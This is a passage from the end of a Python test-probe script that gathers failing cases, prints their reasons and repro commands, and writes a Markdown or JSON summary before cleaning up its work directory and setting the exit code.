        changed = True
    if changed:
        log(f"note: {probe.binary} changed during the run: cases ran against different builds")

    rows = runner.table(categories)
    failures = [o for o in runner.outcomes if o.kind != "handled" or o.leaks]
    log(f"\n{len(failures)} failing case(s) in {elapsed:.0f} s:")
    for o in failures:
        log(f"- [{o.kind}] {o.name}\n    what: {o.what()}")
        if o.notes and o.kind != "handled":
            log(f"    notes: {'; '.join(o.notes)}")
        if o.repro:
            log(f"    repro: {o.repro}")
    summary = {
        "binary": str(probe.binary),
        "quick": args.quick,
        "elapsed_s": round(elapsed, 1),
        "binary_changed_during_run": changed,
        "workdir": str(probe.workdir),
        "table": rows,
        "not_run": probe.not_run,
        "failures": [{"category": o.category, "name": o.name, "kind": o.kind,
                      "what": o.what(), "notes": o.notes, "repro": o.repro}
                     for o in failures],
    }
    if args.json == "-":
        print(json.dumps(summary, indent=2, ensure_ascii=False))
    else:
        print(markdown(rows))
        for category, why in probe.not_run.items():
            print(f"\n{category}: not run ({why})")
        if args.json:
            Path(args.json).write_text(json.dumps(summary, indent=2, ensure_ascii=False) + "\n")
    if probe.own_workdir and not failures:
        shutil.rmtree(probe.workdir, ignore_errors=True)
    elif failures:
        log(f"pages, outputs and recordings kept in {probe.workdir}")
    # A category asked for by name that could not run is a failure (a test
    # runner asks for hostile-origin by name); in the whole probe it is a note.
    return 1 if failures or (named and probe.not_run) else 0


if __name__ == "__main__":
    sys.exit(main())
